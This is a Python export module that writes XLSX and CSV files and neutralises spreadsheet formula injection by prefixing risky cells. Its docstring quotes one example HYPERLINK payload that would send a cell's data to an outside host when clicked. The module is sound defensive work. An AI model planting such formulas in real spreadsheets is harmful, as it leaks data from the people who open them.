"""Spreadsheet and CSV files staff open in Excel or LibreOffice: every export writes its cells through here.

Text starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a
formula by spreadsheet programs: an applicant named `=HYPERLINK("http://x/?"&E5,"…")`
would become a link that sends the next cell away when clicked. Such text stays
text: in CSV it gets a leading apostrophe, in XLSX it is a string cell with the
quote prefix (what Excel stores when a user types the apostrophe), never a
formula. Numbers are written as they are; dates and times become real
spreadsheet dates in local time, shown dd/mm/yyyy and dd/mm/yyyy hh:mm.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from functools import cache
from typing import TYPE_CHECKING

from .timeutil import local

if TYPE_CHECKING:  # openpyxl is imported only when a workbook is written (CLI and app start-up stay light)
    from openpyxl.styles import Alignment, Font

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DATE_FORMAT = "dd/mm/yyyy"
DATETIME_FORMAT = "dd/mm/yyyy hh:mm"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"


def neutralise(value):
    """The value as a cell may hold it: text a spreadsheet would run as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _local_naive(value: datetime) -> datetime:
    # Spreadsheets have no time zones: a moment is written as the wall-clock time in Vietnam.
    return local(value).replace(tzinfo=None)


@dataclass
class Sheet:
    """One worksheet: title lines, one row of headings, then the rows (any iterable: they are streamed)."""

    name: str
    heads: Sequence
    rows: Iterable[Sequence]
    titles: Sequence[str] = ()
    widths: Sequence[int] | None = None
    wrap_heads: bool = False


@cache
def _styles():
    """The title font, the bold font and the wrapping alignment (built once, on the first workbook)."""
    from openpyxl.styles import Alignment, Font

    return Font(bold=True, size=13), Font(bold=True), Alignment(wrap_text=True, vertical="center")


_PLAIN = (str, int, float, Decimal, date)  # datetime is a date


def _plain(value):
    """Values a cell takes as they are; anything else (a lazy translation) as its text."""
    return value if value is None or isinstance(value, _PLAIN) else str(value)


def _cell(ws, value, font: Font | None = None, alignment: Alignment | None = None):
    """The value as a cell of the write-only sheet `ws` (a bare value when it needs no style)."""
    from openpyxl.cell import WriteOnlyCell

    value = _plain(value)
    if isinstance(value, datetime):
        cell = WriteOnlyCell(ws, value=_local_naive(value))
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, date):
        cell = WriteOnlyCell(ws, value=value)
        cell.number_format = DATE_FORMAT
    elif isinstance(value, str) and value.startswith(FORMULA_STARTS):
        cell = WriteOnlyCell(ws, value=value)
        cell.data_type = "s"  # openpyxl took it for a formula
        cell.quotePrefix = True
    elif font is None and alignment is None:
        return value
    else:
        cell = WriteOnlyCell(ws, value=value)
    if font is not None:
        cell.font = font
    if alignment is not None:
        cell.alignment = alignment
    return cell


def write_xlsx(target, sheets: Iterable[Sheet]) -> None:
    """Write the sheets as an XLSX workbook to a path or binary file (write-only: rows are not kept in memory)."""
    from openpyxl import Workbook
    from openpyxl.utils import get_column_letter

    title_font, bold, wrap = _styles()
    book = Workbook(write_only=True)
    for sheet in sheets:
        ws = book.create_sheet(title=str(sheet.name)[:31])
        widths = sheet.widths or [min(45, max(10, len(str(head)) + 2)) for head in sheet.heads]
        for i, width in enumerate(widths, start=1):
            ws.column_dimensions[get_column_letter(i)].width = width
        ws.freeze_panes = f"A{len(sheet.titles) + 2}"
        for i, line in enumerate(sheet.titles):
            ws.append([_cell(ws, line, font=title_font if i == 0 else None)])
        ws.append([_cell(ws, head, font=bold, alignment=wrap if sheet.wrap_heads else None)
                   for head in sheet.heads])
        for row in sheet.rows:
            ws.append([_cell(ws, value) for value in row])
    book.save(target)


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    """The workbook of `write_xlsx` as bytes (for small workbooks such as reports)."""
    out = io.BytesIO()
    write_xlsx(out, sheets)
    return out.getvalue()


def _csv_value(value):
    value = _plain(value)
    if value is None:
        return ""
    if isinstance(value, datetime):
        return _local_naive(value).strftime("%d/%m/%Y %H:%M")
    if isinstance(value, date):
        return value.strftime("%d/%m/%Y")
    return neutralise(value)


def csv_bytes(heads: Sequence, rows: Iterable[Sequence]) -> bytes:
    """A table as CSV in UTF-8 with a BOM (so spreadsheet programs read the diacritics), every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([_csv_value(head) for head in heads])
    for row in rows:
        writer.writerow([_csv_value(value) for value in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")
